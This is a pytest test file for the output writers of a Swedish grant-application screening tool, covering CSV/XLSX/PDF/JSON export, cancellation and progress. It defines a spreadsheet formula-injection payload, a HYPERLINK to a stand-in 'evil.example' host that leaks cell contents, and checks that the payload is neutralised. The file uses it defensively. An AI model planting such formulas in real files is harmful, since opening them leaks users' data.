"""End to end: file in, results out — injection-safe, atomic, cancellable, accounted for."""

from __future__ import annotations

import csv
import io
import threading
from pathlib import Path

import openpyxl
import pytest

from assessment.screening.outputs import COLUMNS, neutralise, to_bytes, to_json, write_results
from assessment.screening.progress import Cancelled, Progress
from assessment.screening.run import OfficerWork, ScreeningRun, run_screening
from tests.support.pdf import pdf_text
from tests.unit.test_screening_helpers import (
    HEADER,
    NO_EDGES,
    as_cells,
    csv_bytes,
    eruf,
    good_row,
    xlsx_bytes,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'


MOTIVATION = COLUMNS.index("draft_motivation")


def _run(rows: list[dict[str, str]], name: str = "in.csv") -> ScreeningRun:
    run = run_screening(csv_bytes(rows), name, eruf())
    assert run.rows_in == run.rows_out + run.rows_rejected
    return run


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "＝1"])
def test_neutralise_makes_formula_like_text_inert(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("Vanlig text = ok") == "Vanlig text = ok"
    assert neutralise("-5") == "-5"  # a plain number is not a formula


def test_hyperlink_formula_is_not_live_in_written_xlsx(tmp_path: Path) -> None:
    row = as_cells(good_row("X1"))
    row[HEADER.index("applicant")] = EVIL
    row[HEADER.index("title")] = "@SUM(1+1)"
    run = run_screening(xlsx_bytes([row]), "in.xlsx", eruf())
    out = write_results(run, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(out)
    sheet = book.worksheets[0]
    cells = [c for r in sheet.iter_rows() for c in r]
    assert not any(c.data_type == "f" for c in cells)
    # Stored as text with Excel's quote prefix: shown without an apostrophe, and editing the cell
    # does not turn it into a formula.
    applicant = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert applicant.data_type == "s" and applicant.value == EVIL and applicant.quotePrefix
    title = next(c for c in cells if c.value == "@SUM(1+1)")
    assert title.quotePrefix
    assert not next(
        c for c in cells if c.value == "Laddstation och butik" or c.value == "granskad"
    ).quotePrefix


def test_hyperlink_formula_is_neutralised_in_csv(tmp_path: Path) -> None:
    run = _run([good_row("X1", applicant=EVIL, title="-1+1")])
    out = write_results(run, tmp_path / "out.csv", "en")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Row", "Status", "Case id"]
    assert rows[1][3] == "'" + EVIL and rows[1][7] == "'-1+1"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_output_has_one_row_per_input_row_in_file_order(tmp_path: Path) -> None:
    run = _run([good_row("A"), good_row("B", amount="mycket"), good_row("C")])
    assert (run.rows_in, run.rows_out, run.rows_rejected) == (3, 2, 1)
    sheet = openpyxl.load_workbook(write_results(run, tmp_path / "o.xlsx", "sv")).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert [v[0] for v in values] == ["Rad", 2, 3, 4]
    assert [v[1] for v in values[1:]] == ["granskad", "avvisad", "granskad"]
    assert "mycket" in values[2][-1]
    # The rejected row keeps its id, applicant, title and amount as written.
    assert values[2][2:8] == ("B", "Kälarne Handel AB", None, None, "mycket", "Laddstation och butik")
    assert str(values[1][MOTIVATION]).startswith("Projektet bedöms bidra till")
    assert isinstance(values[1][COLUMNS.index("amount")], int | float)


def test_xlsx_is_formatted_for_excel(tmp_path: Path) -> None:
    run = _run([good_row("A"), good_row("B")])
    sheet = openpyxl.load_workbook(write_results(run, tmp_path / "o.xlsx", "sv")).worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(COLUMNS))}3"
    assert sheet.column_dimensions["D"].width > 20
    reasons = sheet.cell(row=2, column=COLUMNS.index("draft_motivation") + 1)
    assert reasons.alignment.wrap_text
    assert sheet.cell(row=2, column=COLUMNS.index("amount") + 1).number_format == "#,##0"
    assert sheet.cell(row=1, column=1).font.b


def test_csv_numbers_are_written_for_swedish_excel(tmp_path: Path) -> None:
    run = _run([good_row("A", amount="1 250 000,50"), good_row("B", amount="3200000")])
    out = write_results(run, tmp_path / "o.csv", "sv")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    amount = COLUMNS.index("amount")
    assert [r[amount] for r in rows[1:]] == ["1250000,5", "3200000"]
    english = list(
        csv.reader(
            io.StringIO(write_results(run, tmp_path / "e.csv", "en").read_text(encoding="utf-8-sig")),
            delimiter=";",
        )
    )
    assert english[1][amount] == "1250000.5"


def test_control_characters_and_huge_cells_do_not_break_the_xlsx(tmp_path: Path) -> None:
    run = _run([good_row("A", title="Titel\x00med\x07styrtecken", social="ŋ" * 40_000)])
    out = write_results(run, tmp_path / "o.xlsx")
    values = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert values[1][7] == "Titelmedstyrtecken"


def test_cancel_leaves_no_file_and_no_temp_file(tmp_path: Path) -> None:
    run = _run([good_row(f"A{i}") for i in range(600)])
    target = tmp_path / "o.xlsx"
    target.write_bytes(b"previous results")
    cancel = threading.Event()
    seen: list[Progress] = []

    def progress(p: Progress) -> None:
        seen.append(p)
        if p.stage == "write" and p.done >= 250:
            cancel.set()

    with pytest.raises(Cancelled):
        write_results(run, target, progress=progress, cancel=cancel)
    assert target.read_bytes() == b"previous results"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.xlsx"]
    assert any(p.stage == "write" for p in seen)


def test_cancel_during_import_via_callback() -> None:
    with pytest.raises(Cancelled):
        run_screening(
            csv_bytes([good_row(f"A{i}") for i in range(600)]), "in.csv", eruf(), cancel=lambda: True
        )


def test_progress_reports_rows_and_rate() -> None:
    seen: list[Progress] = []
    run_screening(csv_bytes([good_row(f"A{i}") for i in range(300)]), "in.csv", eruf(), progress=seen.append)
    screen = [p for p in seen if p.stage == "screen"]
    assert screen[-1].done == 300 and screen[-1].total == 300 and screen[-1].fraction == 1.0
    assert screen[-1].rate > 0
    assert [p.done for p in seen if p.stage == "read"][-1] == 300


def test_unknown_output_type_and_missing_folder(tmp_path: Path) -> None:
    run = _run([good_row()])
    from assessment.errors import ValidationFailed

    with pytest.raises(ValidationFailed):
        write_results(run, tmp_path / "o.docx")
    with pytest.raises(ValidationFailed):
        write_results(run, tmp_path / "missing" / "o.csv")


def test_pdf_summary_contains_accounting_and_flagged_applications(tmp_path: Path) -> None:
    run = _run(
        [
            good_row("OK1"),
            good_row("P<&>", sdg_claims="", applicant="Sámi ŋđčŧï"),
            good_row("Bad", amount="x"),
        ]
    )
    out = write_results(run, tmp_path / "s.pdf", "sv")
    text = pdf_text(out)
    assert "Sammanfattning av hållbarhetsgranskning" in text
    assert "P<&>" in text and "ŋđčŧï" in text
    assert "Rad 4, kolumn E (amount)" in text


def test_portfolio_makes_social_better_integrated_visible() -> None:
    rows = [
        good_row(f"S{i}", ecological="", economic="kort", sdg_claims="5:+2: Fler kvinnor i arbete i butiken")
        for i in range(8)
    ] + [good_row("E1"), good_row("E2")]
    # Without interaction hints, only the eight thin applications carry flags.
    portfolio = run_screening(csv_bytes(rows), "in.csv", eruf(), interactions=NO_EDGES).portfolio()
    dims = portfolio.dimensions
    assert dims.loc["social", "described"] == 1.0
    assert dims.loc["ecological", "described"] == pytest.approx(0.2)
    assert portfolio.weakest_dimensions()[-1] == "social"
    assert portfolio.goals.loc[5, "positive"] == 10
    assert portfolio.flagged_share == pytest.approx(0.8)
    assert portfolio.by_municipality.loc["Bräcke", "applications"] == 10


def test_json_and_download_bytes() -> None:
    run = _run([good_row("A"), good_row("B", amount="x")])
    data = to_json(run, "en")
    assert (data["rows_in"], data["rows_out"], data["rows_rejected"]) == (2, 1, 1)
    assert data["rejected"][0]["problems"][0]["field"] == "amount"
    assert data["applications"][0]["draft_motivation"].startswith("The project is considered")
    assert data["rejected"][0]["problems"][0]["column"] == "E (amount)"
    assert data["rejected"][0]["applicant"] == "Kälarne Handel AB"
    assert to_bytes(run, ".csv").startswith(b"\xef\xbb\xbf")
    assert to_bytes(run, ".xlsx")[:2] == b"PK"


def test_officers_edited_motivation_replaces_the_draft_in_outputs(tmp_path: Path) -> None:
    run = _run([good_row("A"), good_row("B")])
    run.work["B"] = OfficerWork(motivation="Handläggarens egen motivering.", notes="Ring sökanden.")
    values = list(
        openpyxl.load_workbook(write_results(run, tmp_path / "o.xlsx"))
        .worksheets[0]
        .iter_rows(values_only=True)
    )
    assert str(values[1][MOTIVATION]).startswith("Projektet bedöms")
    assert values[2][MOTIVATION] == "Handläggarens egen motivering."
    assert values[2][COLUMNS.index("motivation_edited")] == "ja"
    assert values[2][COLUMNS.index("officer_notes")] == "Ring sökanden."
    data = to_json(run)
    assert [a["motivation_edited"] for a in data["applications"]] == [False, True]
